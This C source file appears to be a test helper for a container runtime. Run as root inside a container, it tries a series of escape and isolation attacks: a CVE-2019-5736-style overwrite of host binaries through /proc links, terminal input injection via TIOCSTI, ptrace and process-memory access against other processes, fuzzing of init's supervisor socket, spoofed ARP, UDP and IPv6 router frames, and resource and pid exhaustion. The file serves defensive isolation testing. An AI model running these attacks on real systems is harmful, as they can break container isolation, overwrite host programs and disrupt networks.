/* What root inside a container tries, one attack for each word. Statically linked, so that it runs in any image.
 *
 * Each attack says on standard output what it tried and what came of it; nobody but the test decides whether that is good.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <mqueue.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *outcome(long answer)
{
    return answer < 0 ? strerrorname_np(errno) : "succeeds";
}

static void say(const char *what, const char *object, long answer)
{
    printf("%s %s: %s\n", what, object, outcome(answer));
    fflush(stdout);
}

/* Until whoever started us closes our standard input. */
static void wait_for_end_of_input(void)
{
    char byte;
    while (read(0, &byte, 1) > 0)
        ;
}

/* ---- exe, handles: what is reached through the links of processes ---- */

static int mounts_here[4096];
static int mounts_count;

static void learn_mounts(void)
{
    FILE *file = fopen("/proc/self/mountinfo", "r");
    char line[4096];
    mounts_count = 0;
    while (file && fgets(line, sizeof line, file) && mounts_count < 4096)
        mounts_here[mounts_count++] = atoi(line);
    if (file)
        fclose(file);
}

/* What a descriptor leads to, by its name. */
static void name_of(int fd, char *name, size_t size)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, name, size - 1);
    name[length > 0 ? length : 0] = 0;
}

/* Whether a descriptor leads to a mount that is none of ours. */
static int is_foreign(int fd)
{
    char path[64], line[256];
    int id = -1;
    snprintf(path, sizeof path, "/proc/self/fdinfo/%d", fd);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        sscanf(line, "mnt_id: %d", &id);
    if (file)
        fclose(file);
    for (int n = 0; n < mounts_count; n++)
        if (mounts_here[n] == id)
            return 0;
    return 1;
}

#define KEPT 256
static int kept[KEPT];
static char kept_names[KEPT][200];
static int kept_next;

/* Opens what a handle leads to for writing, as CVE-2019-5736 does once the program has ended. */
static void reopen(int slot, long *writes)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[slot]);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        ssize_t written = pwrite(fd, "attacked", 8, 0);
        printf("opened for writing %s, %s\n", kept_names[slot], outcome(written));
        fflush(stdout);
        *writes += 1;
        close(fd);
    }
}

static void keep(int fd, const char *name, long *writes)
{
    int slot = kept_next++ % KEPT;
    if (kept[slot] > 0) {
        reopen(slot, writes);
        close(kept[slot]);
    }
    kept[slot] = fd;
    snprintf(kept_names[slot], sizeof kept_names[slot], "%s", name);
}

/* Tries, again and again, to get hold of a program, folder or descriptor that is the host's through any process it sees. */
static int attack_handles(long tries)
{
    long done = 0, writes = 0, handles = 0, foreign = 0;
    struct pollfd input = {.fd = 0, .events = POLLIN};
    int self = getpid();
    learn_mounts();
    printf("begun\n");
    fflush(stdout);
    /* At least as often as was said, and until nobody wants any more. */
    while (done < tries || poll(&input, 1, 0) == 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self)
                continue;
            static const char *links[] = {"exe", "cwd", "root", "fd"};
            for (int kind = 0; kind < 4; kind++) {
                char path[300], target[200];
                snprintf(path, sizeof path, "/proc/%d/%s", pid, links[kind]);
                if (kind == 3) {
                    DIR *fds = opendir(path);
                    struct dirent *number;
                    while (fds && (number = readdir(fds))) {
                        char name[600];
                        if (number->d_name[0] == '.')
                            continue;
                        snprintf(name, sizeof name, "%s/%s", path, number->d_name);
                        int fd = open(name, O_PATH | O_CLOEXEC);
                        if (fd < 0)
                            continue;
                        handles++;
                        struct stat status;
                        name_of(fd, target, sizeof target);
                        if (fstat(fd, &status) == 0 && (S_ISREG(status.st_mode) || S_ISDIR(status.st_mode)) &&
                            is_foreign(fd)) {
                            printf("foreign %s of %s\n", number->d_name, target);
                            fflush(stdout);
                            foreign++;
                        }
                        close(fd);
                    }
                    if (fds)
                        closedir(fds);
                    continue;
                }
                if (kind == 0) {
                    int fd = open(path, O_WRONLY | O_CLOEXEC);
                    if (fd >= 0 && is_foreign(fd)) {
                        name_of(fd, target, sizeof target);
                        printf("opened for writing %s, %s\n", target, outcome(pwrite(fd, "attacked", 8, 0)));
                        fflush(stdout);
                        writes++;
                    }
                    if (fd >= 0)
                        close(fd);
                }
                int fd = open(path, O_PATH | O_CLOEXEC);
                if (fd < 0)
                    continue;
                handles++;
                if (!is_foreign(fd)) {
                    close(fd);
                    continue;
                }
                name_of(fd, target, sizeof target);
                /* The program of cockerinit is in nobody's file system: it lies in sealed memory. */
                if (kind != 0 || strncmp(target, "/memfd:", 7) != 0) {
                    printf("foreign %s of %s\n", links[kind], target);
                    fflush(stdout);
                    foreign++;
                }
                keep(fd, target, &writes);
            }
        }
        if (proc)
            closedir(proc);
        done++;
    }
    for (int slot = 0; slot < KEPT; slot++)
        if (kept[slot] > 0)
            reopen(slot, &writes);
    printf("tries %ld handles %ld foreign %ld writes %ld\n", done, handles, foreign, writes);
    return 0;
}

/* ---- swap: two names change places ---- */

static int attack_swap(const char *one, const char *other, long swaps)
{
    long done = 0;
    struct pollfd input = {.fd = 0, .events = POLLIN};
    printf("begun\n");
    fflush(stdout);
    while (done < swaps || poll(&input, 1, 0) == 0) {
        if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0) {
            printf("renameat2: %s\n", strerrorname_np(errno));
            return 1;
        }
        done++;
    }
    printf("swaps %ld\n", done);
    return 0;
}

/* ---- push: input for somebody else's shell ---- */

static void push_into(const char *name, int fd)
{
    const char *line = "echo pushed-$((40+2))\n";
    long answer = 0;
    if (fd < 0) {
        say("open", name, -1);
        return;
    }
    for (const char *at = line; *at && answer == 0; at++)
        answer = ioctl(fd, TIOCSTI, at);
    say("TIOCSTI", name, answer);
    char paste = 3; /* paste the selection */
    say("TIOCLINUX", name, ioctl(fd, TIOCLINUX, &paste));
}

static int attack_push(void)
{
    for (int fd = 0; fd < 3; fd++) {
        char name[16];
        snprintf(name, sizeof name, "%d", fd);
        push_into(name, fd);
    }
    push_into("/dev/tty", open("/dev/tty", O_RDWR | O_CLOEXEC));
    push_into("/dev/console", open("/dev/console", O_RDWR | O_NOCTTY | O_CLOEXEC));
    for (int number = 0; number < 8; number++) {
        char name[32];
        snprintf(name, sizeof name, "/dev/pts/%d", number);
        int fd = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (fd >= 0)
            push_into(name, fd);
    }
    return 0;
}

/* ---- reach: a process of somebody else ---- */

static int attack_reach(int count, char **pids)
{
    for (int n = 0; n < count; n++) {
        pid_t pid = atoi(pids[n]);
        char path[64], byte;
        struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
        say("kill", pids[n], kill(pid, 0));
        long answer = ptrace(PTRACE_SEIZE, pid, 0, 0);
        say("ptrace", pids[n], answer);
        if (answer == 0) {
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            waitpid(pid, NULL, __WALL);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
        answer = process_vm_readv(pid, &here, 1, &there, 1, 0);
        /* Where nothing lies at that address we were let in all the same. */
        say("process_vm_readv", pids[n], answer < 0 && errno == EFAULT ? 0 : answer);
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        say("mem", pids[n], open(path, O_RDWR | O_CLOEXEC));
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        say("environ", pids[n], fd < 0 ? -1 : read(fd, &byte, 1));
        snprintf(path, sizeof path, "/proc/%d/root/", pid);
        say("root", pids[n], open(path, O_PATH | O_CLOEXEC));
        int pidfd = syscall(SYS_pidfd_open, pid, 0);
        say("pidfd_getfd", pids[n], pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 0, 0));
        say("pidfd_send_signal", pids[n], pidfd < 0 ? -1 : syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0));
        say("setns", pids[n], pidfd < 0 ? -1 : setns(pidfd, CLONE_NEWNS));
        say("prlimit", pids[n], syscall(SYS_prlimit64, pid, 7, NULL, (uint64_t[2]){0}));
        say("setpriority", pids[n], syscall(SYS_setpriority, 0, pid, 19));
    }
    return 0;
}

/* ---- noise: what init says to the supervisor, said by somebody else ---- */

static uint64_t random_state = 88172645463325252ull;

static uint64_t draw(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return random_state;
}

static int connect_to(const char *path)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    if (connect(fd, (struct sockaddr *)&address, sizeof address) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

/* How many of them said that more follows than did: their length lies behind version and kind, of two bytes each. */
static long beyond = 0;

/* Messages of every length, some with descriptors along. Most begin as a message may: with a small number. */
static long send_noise(int fd, long messages)
{
    static uint8_t bytes[8192];
    long sent = 0;
    int null = open("/dev/null", O_RDWR | O_CLOEXEC);
    for (long n = 0; n < messages; n++) {
        size_t length = draw() % (n % 16 ? 96 : sizeof bytes);
        for (size_t at = 0; at < length; at += 8) {
            uint64_t word = draw();
            memcpy(bytes + at, &word, length - at < 8 ? length - at : 8);
        }
        if (length > 8 && n % 3) {
            uint32_t head[2] = {draw() % 16, draw() % 16};
            memcpy(bytes, head, n % 2 ? 4 : 8);
        }
        uint32_t told;
        memcpy(&told, bytes + 4, sizeof told);
        beyond += length >= 8 && told > length - 8;
        struct iovec part = {bytes, length};
        union {
            struct cmsghdr header;
            char room[CMSG_SPACE(4 * sizeof(int))];
        } control = {0};
        struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
        if (n % 5 == 0) {
            int descriptors[4] = {null, null, null, null};
            size_t count = 1 + draw() % 4;
            message.msg_control = &control;
            message.msg_controllen = CMSG_SPACE(count * sizeof(int));
            control.header.cmsg_level = SOL_SOCKET;
            control.header.cmsg_type = SCM_RIGHTS;
            control.header.cmsg_len = CMSG_LEN(count * sizeof(int));
            memcpy(CMSG_DATA(&control.header), descriptors, count * sizeof(int));
        }
        struct pollfd room = {.fd = fd, .events = POLLOUT};
        poll(&room, 1, 100);
        if (sendmsg(fd, &message, MSG_DONTWAIT | MSG_NOSIGNAL) >= 0)
            sent++;
        else if (errno == EPIPE || errno == ECONNRESET)
            break;
    }
    return sent;
}

static int attack_noise_of_init(long messages)
{
    int init = syscall(SYS_pidfd_open, 1, 0);
    for (int number = 0; number < 16; number++) {
        int fd = syscall(SYS_pidfd_getfd, init, number, 0);
        int type = 0;
        socklen_t length = sizeof type;
        if (fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &length) == 0) {
            printf("took socket %d of init\n", number);
            fflush(stdout);
            printf("sent %ld\n", send_noise(fd, messages));
            return 0;
        }
    }
    printf("no socket: %s\n", strerrorname_np(errno));
    return 0;
}

static int attack_noise_at(const char *path, long messages)
{
    long sent = 0;
    for (int time = 0; time < 20; time++) {
        int fd = connect_to(path);
        say("connect", path, fd);
        if (fd < 0)
            return 0;
        sent += send_noise(fd, messages / 20);
        close(fd);
    }
    printf("sent %ld beyond %ld\n", sent, beyond);
    return 0;
}

/* What the peer says to somebody who only connects and asks. */
static int attack_ask(const char *path)
{
    int fd = connect_to(path);
    say("connect", path, fd);
    if (fd < 0)
        return 0;
    uint8_t answer[256];
    struct pollfd said = {.fd = fd, .events = POLLIN};
    poll(&said, 1, 2000);
    ssize_t length = recv(fd, answer, sizeof answer, MSG_DONTWAIT);
    printf("answer:");
    for (ssize_t at = 0; at < length; at++)
        printf(" %02x", answer[at]);
    printf("%s\n", length == 0 ? " end" : length < 0 ? " none" : "");
    return 0;
}

/* ---- hold: as much as can be had of something ---- */

static int attack_hold(const char *what)
{
    long count = 0;
    int fd = 0;
    struct rlimit_ { uint64_t soft, hard; } files = {1 << 20, 1 << 20};
    if (syscall(SYS_prlimit64, 0, 7, &files, NULL) < 0) {
        syscall(SYS_prlimit64, 0, 7, NULL, &files);
        files.soft = files.hard;
        syscall(SYS_prlimit64, 0, 7, &files, NULL);
    }
    /* Until there is nothing more for a while: somebody else may have had the last one for a moment. */
    for (int refused = 0; refused < 10; refused = fd < 0 ? refused + 1 : 0) {
        if (refused > 0)
            usleep(10000);
        if (strcmp(what, "inotify") == 0)
            fd = inotify_init1(IN_CLOEXEC);
        else if (strcmp(what, "terminals") == 0)
            fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
        else if (strcmp(what, "queues") == 0) {
            char name[32];
            struct mq_attr attributes = {.mq_maxmsg = 10, .mq_msgsize = 8192};
            snprintf(name, sizeof name, "/q%ld", count);
            fd = mq_open(name, O_CREAT | O_RDWR | O_CLOEXEC, 0600, &attributes);
        } else if (strcmp(what, "signals") == 0) {
            sigset_t all;
            sigfillset(&all);
            sigprocmask(SIG_BLOCK, &all, NULL);
            fd = sigqueue(getpid(), SIGRTMIN, (union sigval){0});
        } else
            return 2;
        count += fd >= 0;
    }
    printf("held %ld: %s\n", count, strerrorname_np(errno));
    fflush(stdout);
    wait_for_end_of_input();
    return 0;
}

static int attack_one(const char *what)
{
    int fd = -1;
    if (strcmp(what, "inotify") == 0)
        fd = inotify_init1(IN_CLOEXEC);
    else if (strcmp(what, "terminals") == 0)
        fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    else if (strcmp(what, "queues") == 0) {
        struct mq_attr attributes = {.mq_maxmsg = 10, .mq_msgsize = 8192};
        fd = mq_open("/another", O_CREAT | O_RDWR | O_CLOEXEC, 0600, &attributes);
    } else if (strcmp(what, "signals") == 0) {
        sigset_t all;
        sigfillset(&all);
        sigprocmask(SIG_BLOCK, &all, NULL);
        fd = sigqueue(getpid(), SIGRTMIN, (union sigval){0});
    }
    say("one", what, fd);
    return 0;
}

/* ---- talk: System V and POSIX objects, abstract sockets ---- */

#define KEY 0x636f636b

static int abstract_socket(int listens)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    const char name[] = "\0cocker-attack";
    memcpy(address.sun_path, name, sizeof name - 1);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + sizeof name - 1;
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (!listens)
        return connect(fd, (struct sockaddr *)&address, length);
    int answer = bind(fd, (struct sockaddr *)&address, length);
    return answer < 0 ? answer : listen(fd, 4);
}

static int attack_talk(int makes)
{
    int flags = makes ? IPC_CREAT | 0666 : 0;
    say("shared memory", "", shmget(KEY, makes ? 4096 : 0, flags));
    say("messages", "", msgget(KEY, flags));
    say("semaphores", "", semget(KEY, makes ? 1 : 0, flags));
    say("queue", "", mq_open("/cocker-attack", makes ? O_CREAT | O_RDWR : O_RDWR, 0666, NULL));
    say("abstract", "", abstract_socket(makes));
    if (makes) {
        wait_for_end_of_input();
        shmctl(shmget(KEY, 0, 0), IPC_RMID, NULL);
        msgctl(msgget(KEY, 0), IPC_RMID, NULL);
        semctl(semget(KEY, 0, 0), 0, IPC_RMID);
        mq_unlink("/cocker-attack");
    }
    return 0;
}

/* ---- frames: what a container's root may write on its link ---- */

static int frame_socket(const char *link, struct sockaddr_ll *to, uint8_t own[6])
{
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    struct ifreq request = {0};
    snprintf(request.ifr_name, sizeof request.ifr_name, "%s", link);
    ioctl(fd, SIOCGIFHWADDR, &request);
    memcpy(own, request.ifr_hwaddr.sa_data, 6);
    *to = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(link), .sll_halen = 6};
    return fd;
}

static void read_hardware(const char *text, uint8_t into[6])
{
    unsigned b[6];
    if (sscanf(text, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) == 6)
        for (int n = 0; n < 6; n++)
            into[n] = b[n];
}

static uint16_t sum(const void *data, size_t length, uint32_t start)
{
    const uint8_t *bytes = data;
    for (size_t at = 0; at < length; at++)
        start += at % 2 ? bytes[at] : bytes[at] << 8;
    while (start >> 16)
        start = (start & 0xffff) + (start >> 16);
    return htons(~start);
}

static uint32_t partial(const void *data, size_t length)
{
    return (uint16_t)~ntohs(sum(data, length, 0));
}

/* frame LINK KIND SOURCE-HARDWARE|own DESTINATION-HARDWARE ADDRESS [ADDRESS] [tags] */
static int attack_frame(int count, char **words)
{
    if (count < 5)
        return 2;
    uint8_t own[6], source[6], destination[6], frame[256] = {0};
    struct sockaddr_ll to;
    int fd = frame_socket(words[0], &to, own);
    memcpy(source, own, 6);
    read_hardware(words[2], source);
    read_hardware(words[3], destination);
    memcpy(frame, destination, 6);
    memcpy(frame + 6, source, 6);
    uint8_t *at = frame + 12;
    int tags = count > 6 ? atoi(words[6]) : 0;
    for (int n = 0; n < tags; n++, at += 4) {
        at[0] = 0x81;
        at[1] = 0; /* a tag of VLAN 0, which receivers take off */
    }
    const char *kind = words[1];
    if (strcmp(kind, "arp") == 0) {
        /* "ADDRESS is at SOURCE", said to ADDRESS-2 */
        uint8_t arp[28] = {0, 1, 8, 0, 6, 4, 0, 2};
        memcpy(arp + 8, source, 6);
        inet_pton(AF_INET, words[4], arp + 14);
        memcpy(arp + 18, destination, 6);
        inet_pton(AF_INET, count > 5 ? words[5] : words[4], arp + 24);
        *at++ = 0x08;
        *at++ = 0x06;
        memcpy(at, arp, sizeof arp);
        at += sizeof arp;
    } else if (strcmp(kind, "udp") == 0) {
        /* from ADDRESS to ADDRESS-2, port 7777 */
        uint8_t ip[20] = {0x45, 0, 0, 20 + 8 + 8, 0, 0, 0, 0, 64, 17};
        uint8_t udp[16] = {0x1e, 0x61, 0x1e, 0x61, 0, 16, 0, 0, 's', 'p', 'o', 'o', 'f', 'e', 'd', '\n'};
        inet_pton(AF_INET, words[4], ip + 12);
        inet_pton(AF_INET, words[5], ip + 16);
        uint16_t check = sum(ip, sizeof ip, 0);
        memcpy(ip + 10, &check, 2);
        *at++ = 0x08;
        *at++ = 0x00;
        memcpy(at, ip, sizeof ip);
        memcpy(at + sizeof ip, udp, sizeof udp);
        at += sizeof ip + sizeof udp;
    } else {
        /* ICMPv6 from ADDRESS to all nodes: an advertisement of a router, or of a neighbour ADDRESS-2 */
        uint8_t ip[40] = {0x60, 0, 0, 0, 0, 0, 58, 255}, icmp[48] = {0};
        size_t length;
        inet_pton(AF_INET6, words[4], ip + 8);
        inet_pton(AF_INET6, "ff02::1", ip + 24);
        if (strcmp(kind, "router") == 0) {
            icmp[0] = 134;
            icmp[4] = 64;
            icmp[6] = 0x07; /* a router for 1800 seconds */
            icmp[7] = 0x08;
            icmp[16] = 1; /* at this hardware address */
            icmp[17] = 1;
            memcpy(icmp + 18, source, 6);
            length = 24;
        } else {
            icmp[0] = 136;
            icmp[4] = 0x20; /* override what you know */
            inet_pton(AF_INET6, words[5], icmp + 8);
            icmp[24] = 2;
            icmp[25] = 1;
            memcpy(icmp + 26, source, 6);
            length = 32;
        }
        ip[5] = length;
        uint8_t tail[8] = {0, 0, 0, length, 0, 0, 0, 58};
        uint16_t check = sum(icmp, length, partial(ip + 8, 32) + partial(tail, 8));
        memcpy(icmp + 2, &check, 2);
        *at++ = 0x86;
        *at++ = 0xdd;
        memcpy(at, ip, sizeof ip);
        memcpy(at + sizeof ip, icmp, length);
        at += sizeof ip + length;
    }
    for (int time = 0; time < 5; time++)
        say("frame", kind, sendto(fd, frame, at - frame, 0, (struct sockaddr *)&to, sizeof to));
    return 0;
}

/* hear LINK KIND: says when a frame of this kind has come to the link, or came to it up to the end of our input */
static int attack_hear(const char *link, const char *kind)
{
    uint8_t frame[2048], own[6];
    struct sockaddr_ll at, from;
    int fd = frame_socket(link, &at, own);
    at.sll_protocol = htons(ETH_P_ALL);
    bind(fd, (struct sockaddr *)&at, sizeof at);
    printf("listens\n");
    fflush(stdout);
    struct pollfd both[2] = {{.fd = fd, .events = POLLIN}, {.fd = 0, .events = POLLIN}};
    long heard = 0, ends = 0;
    while (!ends || both[0].revents) {
        poll(both, 2, ends ? 0 : -1);
        ends = both[1].revents != 0;
        if (!both[0].revents)
            continue;
        socklen_t size = sizeof from;
        ssize_t length = recvfrom(fd, frame, sizeof frame, 0, (struct sockaddr *)&from, &size);
        if (length < 34 || from.sll_pkttype == PACKET_OUTGOING)
            continue;
        size_t in = 12;
        while (frame[in] == 0x81 && frame[in + 1] == 0)
            in += 4;
        uint16_t type = frame[in] << 8 | frame[in + 1];
        const uint8_t *rest = frame + in + 2;
        heard += (strcmp(kind, "arp") == 0 && type == 0x0806 && rest[7] == 2) ||
                 (strcmp(kind, "udp") == 0 && type == 0x0800 && rest[9] == 17 && rest[22] == 0x1e && rest[23] == 0x61) ||
                 (strcmp(kind, "router") == 0 && type == 0x86dd && rest[6] == 58 && rest[40] == 134) ||
                 (strcmp(kind, "neighbour") == 0 && type == 0x86dd && rest[6] == 58 && rest[40] == 136);
    }
    printf("heard %ld\n", heard);
    return 0;
}

/* ---- fill: as many files or bytes as a folder takes ---- */

static int attack_fill(const char *folder, const char *what, long most)
{
    char path[4096], block[65536];
    long count = 0;
    memset(block, 'x', sizeof block);
    if (chdir(folder) < 0)
        return 1;
    if (strcmp(what, "bytes") == 0) {
        int fd = open("filler", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
        while (fd >= 0 && count < most && write(fd, block, sizeof block) > 0)
            count++;
    } else {
        for (; count < most; count++) {
            snprintf(path, sizeof path, "f%ld", count);
            int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
            if (fd < 0)
                break;
            close(fd);
        }
    }
    printf("filled %ld: %s\n", count, count < most ? strerrorname_np(errno) : "as said");
    fflush(stdout);
    return 0;
}

/* ---- wrap: processes that have to do with nothing, under every pid there is, again and again ---- */

/* Waits to be told by its parent that it may go; whatever else reaches it is told by how it ends. */
static void stand_by(pid_t parent)
{
    sigset_t all;
    siginfo_t came;
    sigfillset(&all);
    while (sigwaitinfo(&all, &came) < 0)
        ;
    _exit(came.si_signo == SIGUSR1 && came.si_pid == parent ? 0 : 1);
}

/* Pids come from FIRST on; once one is beyond LAST, the kernel is told to go on counting at FIRST (ns_last_pid). Until so many
 * processes were there, and nobody wants any more; at any time HELD of them are. */
static int attack_wrap(long most, int first, int last, int held)
{
    static pid_t standing[4096];
    struct pollfd input = {.fd = 0, .events = POLLIN};
    long started = 0, wraps = 0, hit = 0;
    sigset_t all;
    pid_t self = getpid();
    char text[16];
    int next_pid = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
    snprintf(text, sizeof text, "%d", first - 1);
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    printf("begun\n");
    fflush(stdout);
    for (long at = 0; started < most || poll(&input, 1, 0) == 0; at = (at + 1) % held) {
        if (standing[at]) {
            int status;
            kill(standing[at], SIGUSR1); /* it was not waited for, so it is still that one */
            waitpid(standing[at], &status, WUNTRACED);
            if (WIFSTOPPED(status)) {
                kill(standing[at], SIGKILL);
                waitpid(standing[at], NULL, 0);
            }
            if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
                hit++;
                printf("reached %d\n", standing[at]);
                fflush(stdout);
            }
        }
        standing[at] = fork();
        if (standing[at] == 0)
            stand_by(self);
        if (standing[at] < 0)
            return 1;
        if (++started == most) {
            printf("enough\n");
            fflush(stdout);
        }
        if (standing[at] > last) {
            wraps++;
            if (pwrite(next_pid, text, strlen(text), 0) < 0)
                return 1;
        }
    }
    for (int at = 0; at < held; at++)
        if (standing[at]) {
            int status;
            kill(standing[at], SIGUSR1);
            waitpid(standing[at], &status, 0);
            hit += !WIFEXITED(status) || WEXITSTATUS(status) != 0;
        }
    printf("started %ld wraps %ld hit %ld\n", started, wraps, hit);
    return 0;
}

int main(int count, char **words)
{
    const char *attack = count > 1 ? words[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(attack, "handles") == 0 && count == 3)
        return attack_handles(atol(words[2]));
    if (strcmp(attack, "swap") == 0 && count == 5)
        return attack_swap(words[2], words[3], atol(words[4]));
    if (strcmp(attack, "push") == 0)
        return attack_push();
    if (strcmp(attack, "reach") == 0)
        return attack_reach(count - 2, words + 2);
    if (strcmp(attack, "noise-of-init") == 0 && count == 3)
        return attack_noise_of_init(atol(words[2]));
    if (strcmp(attack, "noise-at") == 0 && count == 4)
        return attack_noise_at(words[2], atol(words[3]));
    if (strcmp(attack, "ask") == 0 && count == 3)
        return attack_ask(words[2]);
    if (strcmp(attack, "hold") == 0 && count == 3)
        return attack_hold(words[2]);
    if (strcmp(attack, "one") == 0 && count == 3)
        return attack_one(words[2]);
    if (strcmp(attack, "talk") == 0 && count == 3)
        return attack_talk(strcmp(words[2], "make") == 0);
    if (strcmp(attack, "frame") == 0)
        return attack_frame(count - 2, words + 2);
    if (strcmp(attack, "hear") == 0 && count == 4)
        return attack_hear(words[2], words[3]);
    if (strcmp(attack, "fill") == 0 && count == 5)
        return attack_fill(words[2], words[3], atol(words[4]));
    if (strcmp(attack, "wrap") == 0 && count == 6)
        return attack_wrap(atol(words[2]), atoi(words[3]), atoi(words[4]), atoi(words[5]));
    fprintf(stderr, "no such attack\n");
    return 2;
}
